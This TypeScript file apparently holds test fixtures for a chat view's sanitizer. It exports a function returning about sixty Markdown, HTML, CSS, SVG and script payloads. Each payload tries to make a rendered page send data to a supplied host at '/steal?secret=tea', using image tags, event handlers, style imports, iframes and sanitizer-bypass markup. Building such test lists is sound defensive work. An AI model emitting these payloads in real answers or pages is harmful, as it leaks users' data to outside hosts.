/** Text of an answer that tries to make the page call another host with something in the address. `host` is that host. */
export function exfiltrationPayloads(host: string): string[] {
    const url = `http://${host}/steal?secret=tea`;
    const bare = `//${host}/steal?secret=tea`;
    const escaped = url.replace(/./g, character => `&#${character.charCodeAt(0)};`);
    const svg = (inner: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
    const style = (css: string): string => `<style>${css}</style>`;
    const data = (type: string, text: string): string => `data:${type};base64,${Buffer.from(text).toString('base64')}`;
    return [
        // Markdown
        `![a](${url})`,
        `![a](${bare})`,
        `![a](<${url}> "title")`,
        `![a][picture]\n\n[picture]: ${url}`,
        `[![a](${url})](${url})`,
        `![a](${url}\n"title")`,
        `![a](HTTP://${host}/steal)`,
        `![a](http:\\\\${host}/steal)`,
        `| ![a](${url}) |\n|---|\n| ![b](${url}) |`,
        `- ![a](${url})\n  > ![b](${url})`,
        `<${url}>`,
        `[a](${url})`,
        url,
        // Pictures in HTML
        `<img src="${url}">`,
        `<img src='${bare}'>`,
        `<img src=${url}>`,
        `<IMG SRC="${url}">`,
        `<img src="${escaped}">`,
        `<img src=" \n\t${url}">`,
        `<img srcset="${url} 1x, ${url}2 2x">`,
        `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${url} 2x">`,
        `<img src="x" onerror="fetch('${url}')">`,
        `<img src="${url}" loading="eager" fetchpriority="high">`,
        `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
        `<picture><source srcset="${url}"><img src="${url}"></picture>`,
        `<image src="${url}">`,
        `<input type="image" src="${url}">`,
        `<img src="${data('image/svg+xml', svg(`<image href="${url}"/>`))}">`,
        // Sound, video, pages, objects
        `<video src="${url}" poster="${url}" autoplay></video>`,
        `<video autoplay><source src="${url}"><track src="${url}" default></video>`,
        `<audio src="${url}" autoplay preload="auto"></audio>`,
        `<iframe src="${url}"></iframe>`,
        `<iframe srcdoc="<img src='${url}'>"></iframe>`,
        `<iframe src="${data('text/html', `<img src="${url}">`)}"></iframe>`,
        `<frameset><frame src="${url}"></frameset>`,
        `<object data="${url}"></object>`,
        `<embed src="${url}">`,
        `<applet code="${url}"></applet>`,
        `<portal src="${url}"></portal>`,
        // Styles
        style(`@import "${url}";`),
        style(`.theia-ChatInput { background: url(${url}) }`),
        style(`input[value^="a"] { background: image-set("${url}" 1x) }`),
        style(`@font-face { font-family: a; src: url(${url}) } * { font-family: a }`),
        `<p style="background: url(${url})">a</p>`,
        `<p style="background: \\75rl(${url})">a</p>`,
        `<p style="list-style: url(${url}); cursor: url(${url}), auto; border-image: url(${url})">a</p>`,
        `<table background="${url}"><tr><td background="${url}">a</td></tr></table>`,
        `<link rel="stylesheet" href="${url}">`,
        `<link rel="stylesheet" href="${data('text/css', `@import "${url}";`)}">`,
        // Whatever a browser fetches beforehand or reports
        `<link rel="prefetch" href="${url}"><link rel="preload" as="image" href="${url}"><link rel="icon" href="${url}">`,
        `<link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="http://${host}">`,
        `<meta http-equiv="refresh" content="0; url=${url}">`,
        `<base href="http://${host}/">\n\n![a](steal)`,
        `<a href="${url}" ping="${url}">a</a>`,
        // Scripts
        `<script>fetch('${url}')</script><script src="${url}"></script>`,
        `<details open ontoggle="new Image().src='${url}'"><summary>a</summary></details>`,
        `<form action="${url}"><input autofocus onfocus="this.form.submit()"></form>`,
        // Drawings
        svg(`<image href="${url}" xlink:href="${url}"/><use href="${url}#a"/><script href="${url}"/>`),
        svg(
            `<style>@import "${url}";</style><rect fill="url(${url})" filter="url(${url}#a)"/><foreignObject><img src="${url}"></foreignObject>`
        ),
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url}&gt;"></mglyph></table></mtext></math>`,
        `<svg></p><style><a id="</style><img src='${url}'>"></svg>`,
        `<noscript><p title="</noscript><img src='${url}'>"></noscript>`,
        '```mermaid\ngraph TD; A["<img src=' + `'${url}'` + '>"]-->B\n```'
    ];
}
